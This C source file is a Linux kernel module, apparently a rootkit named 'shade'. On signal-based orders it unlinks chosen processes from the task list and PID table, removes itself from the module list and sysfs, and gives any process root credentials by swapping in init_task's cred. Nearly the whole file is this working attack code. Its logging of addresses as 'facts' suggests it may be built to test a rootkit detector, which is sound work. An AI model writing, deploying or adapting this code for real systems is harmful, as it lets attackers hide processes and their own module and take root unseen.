// SPDX-License-Identifier: GPL-2.0
/* Hiding processes and the module itself, and showing them again: the witness looks at everything once more when something has changed. */
#include "shade.h"
#include "orders.h"

#include <linux/cred.h>
#include <linux/idr.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

enum { MOST = 8 };

static struct {
    struct task_struct *task;
    struct pid *pid;
    bool is_unnumbered;
} secret[MOST];

static int secrets;
static bool hiding;
static bool has_folder = true;

static rwlock_t *tasks_lock;
static spinlock_t *numbers_lock;
static struct mutex *modules_lock;
static struct list_head *modules_list;
static void (*set_veil)(bool);

bool shade_is_hiding(void)
{
    return READ_ONCE(hiding);
}

void shade_hide_init(void)
{
    tasks_lock = shade_find("tasklist_lock");
    numbers_lock = shade_find("pidmap_lock");
    modules_lock = shade_find("module_mutex");
    modules_list = shade_find("modules");
    set_veil = shade_find("veil_set");
    if (!tasks_lock)
        not_planted("hidden-from-list", "no-tasklist_lock");
    if (!numbers_lock)
        not_planted("hidden-from-numbers", "no-pidmap_lock");
    if (!modules_lock || !modules_list)
        not_planted("hidden-module", "no-list");
    else
        pr_info("fact hidden-module name=shade va=0x%px list=0 folder=0\n", THIS_MODULE);
}

static long remember(int number, bool is_unnumbered)
{
    struct pid *pid = find_get_pid(number);
    struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_TGID) : NULL;

    if (!tasks_lock || (is_unnumbered && !numbers_lock) || !task || secrets == MOST)
        return -ESRCH;
    secret[secrets].task = task;
    secret[secrets].pid = pid;
    secret[secrets].is_unnumbered = is_unnumbered;
    secrets++;
    pr_info("fact hidden-task pid=%d va=0x%px pid-va=0x%px\n", number, task, pid);
    return 0;
}

/* It acts as root; who it is for others stays as it was. */
static long elevate(int number)
{
    struct pid *pid = find_get_pid(number);
    struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;

    if (!task)
        return -ESRCH;
    pr_info("fact elevated pid=%d va=0x%px before=0x%px after=0x%px\n", number, task, rcu_access_pointer(task->cred),
            rcu_access_pointer(init_task.cred));
    put_cred(rcu_replace_pointer(task->cred, get_cred(rcu_access_pointer(init_task.cred)), true));
    put_task_struct(task);
    put_pid(pid);
    return 0;
}

static void set_processes(bool hide)
{
    unsigned long flags;
    int i;

    for (i = 0; i < secrets; i++) {
        struct upid *number = &secret[i].pid->numbers[0];

        write_lock_irqsave(tasks_lock, flags);
        if (hide)
            list_del_init(&secret[i].task->tasks);
        else
            list_add_tail_rcu(&secret[i].task->tasks, &init_task.tasks);
        write_unlock_irqrestore(tasks_lock, flags);
        if (!secret[i].is_unnumbered)
            continue;
        spin_lock_irqsave(numbers_lock, flags);
        if (hide)
            idr_remove(&number->ns->idr, number->nr);
        else if (idr_alloc(&number->ns->idr, secret[i].pid, number->nr, number->nr + 1, GFP_ATOMIC) < 0)
            pr_err("a process number is lost\n");
        spin_unlock_irqrestore(numbers_lock, flags);
    }
}

static void set_module(bool hide)
{
    if (!modules_lock || !modules_list)
        return;
    mutex_lock(modules_lock);
    if (hide)
        list_del(&THIS_MODULE->list);
    else
        list_add_rcu(&THIS_MODULE->list, modules_list);
    if (set_veil)
        set_veil(hide);
    mutex_unlock(modules_lock);
    if (hide && has_folder) {
        kobject_del(&THIS_MODULE->mkobj.kobj);
        has_folder = false;
    }
}

static long set_hiding(bool hide)
{
    if (hide == hiding)
        return 0;
    set_processes(hide);
    set_module(hide);
    WRITE_ONCE(hiding, hide);
    return 0;
}

bool shade_order(int signal, int pid, long *result)
{
    switch (signal) {
    case ORDER_HIDE:
        *result = set_hiding(true);
        return true;
    case ORDER_SHOW:
        *result = set_hiding(false);
        return true;
    case ORDER_ELEVATE:
        *result = elevate(pid);
        return true;
    case ORDER_UNLIST:
        *result = remember(pid, false);
        return true;
    case ORDER_UNNUMBER:
        *result = remember(pid, true);
        return true;
    default:
        return false;
    }
}
